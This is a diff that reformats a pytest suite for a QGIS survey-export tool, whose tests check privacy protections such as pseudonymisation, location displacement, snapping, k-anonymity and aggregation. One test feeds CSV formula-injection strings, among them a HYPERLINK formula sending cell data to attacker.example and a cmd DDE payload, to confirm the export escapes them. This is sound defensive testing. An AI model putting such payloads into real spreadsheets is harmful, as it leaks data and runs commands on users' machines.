@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Export for sharing: every protection is checked on the file written, and nothing else is written."""
+
 from __future__ import annotations
 
 import csv
@@ -70,12 +71,19 @@ def _metadata(gpkg: Path) -> list[dict]:
 
 # ---------------------------------------------------------------- displacement and columns
 
+
 @pytest.fixture()
 def displaced(survey, out_dir):
     # photo_url (high risk) kept on purpose: its links are stripped
-    options = ShareOptions(drop_columns=["respondent_name"], pseudonymise_columns=["phone"], key=KEY_A,
-                           location_mode="displace", min_distance_m=250, max_distance_m=2000,
-                           keep_columns=["photo_url"])
+    options = ShareOptions(
+        drop_columns=["respondent_name"],
+        pseudonymise_columns=["phone"],
+        key=KEY_A,
+        location_mode="displace",
+        min_distance_m=250,
+        max_distance_m=2000,
+        keep_columns=["photo_url"],
+    )
     return export_for_sharing(survey, out_dir / "shared.gpkg", options)
 
 
@@ -127,10 +135,12 @@ def test_pseudonymised_phones_match_the_keyed_hash_and_hide_the_numbers(displace
 
 
 def test_pseudonyms_are_stable_with_one_key_and_change_with_another(survey, out_dir, displaced):
-    again = export_for_sharing(survey, out_dir / "again.gpkg",
-                               ShareOptions(pseudonymise_columns=["phone"], key=KEY_A, location_mode="drop"))
-    other = export_for_sharing(survey, out_dir / "other.gpkg",
-                               ShareOptions(pseudonymise_columns=["phone"], key=KEY_B, location_mode="drop"))
+    again = export_for_sharing(
+        survey, out_dir / "again.gpkg", ShareOptions(pseudonymise_columns=["phone"], key=KEY_A, location_mode="drop")
+    )
+    other = export_for_sharing(
+        survey, out_dir / "other.gpkg", ShareOptions(pseudonymise_columns=["phone"], key=KEY_B, location_mode="drop")
+    )
 
     def phones(report):
         return {r["_index"]: r["phone"] for r in read_gpkg_rows(report.output, "shared_survey")[1] if r["phone"]}
@@ -149,8 +159,14 @@ def test_attachment_links_are_stripped(displaced, source_rows):
 
 def test_what_was_done_is_recorded_in_the_metadata_table(displaced):
     steps = {row["action"]: row for row in _metadata(displaced.output)}
-    assert list(steps) == ["drop_columns", "keep_high_risk_columns", "drop_location_columns", "pseudonymise",
-                           "strip_links", "displace"]
+    assert list(steps) == [
+        "drop_columns",
+        "keep_high_risk_columns",
+        "drop_location_columns",
+        "pseudonymise",
+        "strip_links",
+        "displace",
+    ]
     assert steps["keep_high_risk_columns"]["columns"] == "photo_url"
     assert steps["drop_columns"]["columns"] == "respondent_name"
     assert steps["drop_location_columns"]["columns"] == "_location_latitude, _location_longitude"
@@ -180,8 +196,9 @@ def test_the_key_is_written_nowhere(displaced, out_dir):
 def test_only_the_output_and_its_readme_are_written_and_the_input_is_untouched(survey, tmp_path, source_gpkg):
     source = Path(survey.source().split("|")[0])
     before_sha, before_files = _sha(source), _files(tmp_path)
-    report = export_for_sharing(survey, tmp_path / "shared" / "partners.gpkg",
-                                ShareOptions(drop_columns=["respondent_name"]))
+    report = export_for_sharing(
+        survey, tmp_path / "shared" / "partners.gpkg", ShareOptions(drop_columns=["respondent_name"])
+    )
     assert _files(tmp_path) == sorted(before_files + ["shared/partners.gpkg", "shared/partners.gpkg.README.txt"])
     assert _sha(source) == before_sha == _sha(source_gpkg)
     assert report.rows == 420
@@ -203,12 +220,19 @@ def test_keep_mode_warns_in_the_readme_and_keeps_coordinates(survey, out_dir, so
 
 # ---------------------------------------------------------------- snapping and CSV
 
+
 def test_snapped_csv_has_grid_points_and_no_formula_cells(qgis_app, out_dir):
     from qgis.core import QgsFeature, QgsGeometry, QgsPointXY, QgsVectorLayer
 
     layer = QgsVectorLayer("Point?crs=EPSG:4326&field=note:string&field=hh_size:integer", "hostile", "memory")
-    notes = ["=HYPERLINK(\"http://attacker.example/?x=\"&A2,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
-             "\t=1+1", "ok"]
+    notes = [
+        '=HYPERLINK("http://attacker.example/?x="&A2,"x")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "ok",
+    ]
     features = []
     for i, note in enumerate(notes):
         feature = QgsFeature(layer.fields())
@@ -216,8 +240,9 @@ def test_snapped_csv_has_grid_points_and_no_formula_cells(qgis_app, out_dir):
         feature.setGeometry(QgsGeometry.fromPointXY(QgsPointXY(18.555 + i * 0.0004, 4.3612)))
         features.append(feature)
     layer.dataProvider().addFeatures(features)
-    report = export_for_sharing(layer, out_dir / "points.csv", ShareOptions(location_mode="snap", grid_size_m=1000,
-                                                                                  strip_links=False))
+    report = export_for_sharing(
+        layer, out_dir / "points.csv", ShareOptions(location_mode="snap", grid_size_m=1000, strip_links=False)
+    )
     with open(report.output, newline="", encoding="utf-8-sig") as handle:
         rows = list(csv.DictReader(handle))
     assert [r["note"] for r in rows] == ["'" + n for n in notes[:5]] + ["ok"]
@@ -228,14 +253,21 @@ def test_snapped_csv_has_grid_points_and_no_formula_cells(qgis_app, out_dir):
 
 # ---------------------------------------------------------------- aggregation
 
+
 @pytest.fixture()
 def aggregated(survey, out_dir):
     from qgis.core import QgsVectorLayer
 
     boundaries = QgsVectorLayer(f"{SAMPLE_ADMIN}|layername=admin2", "admin2", "ogr")
     assert boundaries.isValid()
-    options = ShareOptions(location_mode="aggregate", area_field="admin2", category_field="water_source", k=5,
-                           boundaries=boundaries, boundaries_code_field="adm2_pcode")
+    options = ShareOptions(
+        location_mode="aggregate",
+        area_field="admin2",
+        category_field="water_source",
+        k=5,
+        boundaries=boundaries,
+        boundaries_code_field="adm2_pcode",
+    )
     report = export_for_sharing(survey, out_dir / "counts.gpkg", options)
     del options, boundaries
     return report
@@ -310,8 +342,9 @@ def test_aggregation_is_recorded_and_explained(aggregated):
 
 
 def test_aggregated_csv_has_no_geometry_and_empty_hidden_cells(survey, out_dir):
-    report = export_for_sharing(survey, out_dir / "counts.csv",
-                                ShareOptions(location_mode="aggregate", area_field="village", k=5))
+    report = export_for_sharing(
+        survey, out_dir / "counts.csv", ShareOptions(location_mode="aggregate", area_field="village", k=5)
+    )
     with open(report.output, newline="", encoding="utf-8-sig") as handle:
         rows = list(csv.DictReader(handle))
     assert list(rows[0]) == ["area_code", "total"]
@@ -324,13 +357,17 @@ def test_aggregated_csv_has_no_geometry_and_empty_hidden_cells(survey, out_dir):
 
 # ---------------------------------------------------------------- refusals
 
-@pytest.mark.parametrize("options, message", [
-    (ShareOptions(drop_columns=["nom_inconnu"]), "The column nom_inconnu is not in the layer survey"),
-    (ShareOptions(pseudonymise_columns=["phone"]), "No pseudonymisation key"),
-    (ShareOptions(location_mode="blur"), "Unknown location protection \"blur\""),
-    (ShareOptions(min_distance_m=0), "minimum distance above 0"),
-    (ShareOptions(location_mode="aggregate", area_field="adm9"), "admin area column adm9 is not in the layer"),
-])
+
+@pytest.mark.parametrize(
+    "options, message",
+    [
+        (ShareOptions(drop_columns=["nom_inconnu"]), "The column nom_inconnu is not in the layer survey"),
+        (ShareOptions(pseudonymise_columns=["phone"]), "No pseudonymisation key"),
+        (ShareOptions(location_mode="blur"), 'Unknown location protection "blur"'),
+        (ShareOptions(min_distance_m=0), "minimum distance above 0"),
+        (ShareOptions(location_mode="aggregate", area_field="adm9"), "admin area column adm9 is not in the layer"),
+    ],
+)
 def test_bad_options_are_refused_before_writing(survey, out_dir, options, message):
     with pytest.raises(CartongError, match=re.escape(message)):
         export_for_sharing(survey, out_dir / "x.gpkg", options)
@@ -367,8 +404,9 @@ def test_rare_combinations_are_blanked_until_each_is_shared_by_k_rows(survey, ou
 
     before = Counter(tuple(r[c] for c in QUASI) for r in source_rows.values())
     assert sum(n for n in before.values() if n < 5) > 100  # the sample has many unique households
-    report = export_for_sharing(survey, out_dir / "k.gpkg",
-                                ShareOptions(location_mode="drop", quasi_identifiers=QUASI, k=5))
+    report = export_for_sharing(
+        survey, out_dir / "k.gpkg", ShareOptions(location_mode="drop", quasi_identifiers=QUASI, k=5)
+    )
     _, rows = read_gpkg_rows(report.output, "shared_survey")
     after = Counter(tuple(r[c] for c in QUASI) for r in rows)
     assert all(n >= 5 or all(v is None for v in combo) for combo, n in after.items())
@@ -387,8 +425,11 @@ def test_displaced_points_can_be_kept_in_their_admin_area(survey, out_dir, sourc
     polygons = {f.GetField("adm2_pcode"): f.GetGeometryRef().Clone() for f in admin_ds.GetLayerByName("admin2")}
     admin_ds = None
     boundaries = QgsVectorLayer(f"{SAMPLE_ADMIN}|layername=admin2", "admin2", "ogr")
-    report = export_for_sharing(survey, out_dir / "kept.gpkg", ShareOptions(
-        location_mode="displace", min_distance_m=1000, max_distance_m=5000, boundaries=boundaries))
+    report = export_for_sharing(
+        survey,
+        out_dir / "kept.gpkg",
+        ShareOptions(location_mode="displace", min_distance_m=1000, max_distance_m=5000, boundaries=boundaries),
+    )
     del boundaries
     _, rows = read_gpkg_rows(report.output, "shared_survey")
 
@@ -431,7 +472,10 @@ def test_answer_codes_with_the_same_field_name_get_distinct_columns(qgis_app, ou
                 feature.setAttributes([area, code])
                 features.append(feature)
     layer.dataProvider().addFeatures(features)
-    report = export_for_sharing(layer, out_dir / "answers.csv", ShareOptions(
-        location_mode="aggregate", area_field="admin2", category_field="q", k=2))
+    report = export_for_sharing(
+        layer,
+        out_dir / "answers.csv",
+        ShareOptions(location_mode="aggregate", area_field="admin2", category_field="q", k=2),
+    )
     lines = report.output.read_text(encoding="utf-8-sig").splitlines()
     assert lines == ["area_code,total,n_a_b,n_a_b_2", "CF111,6,3,3", "CF112,6,3,3"]
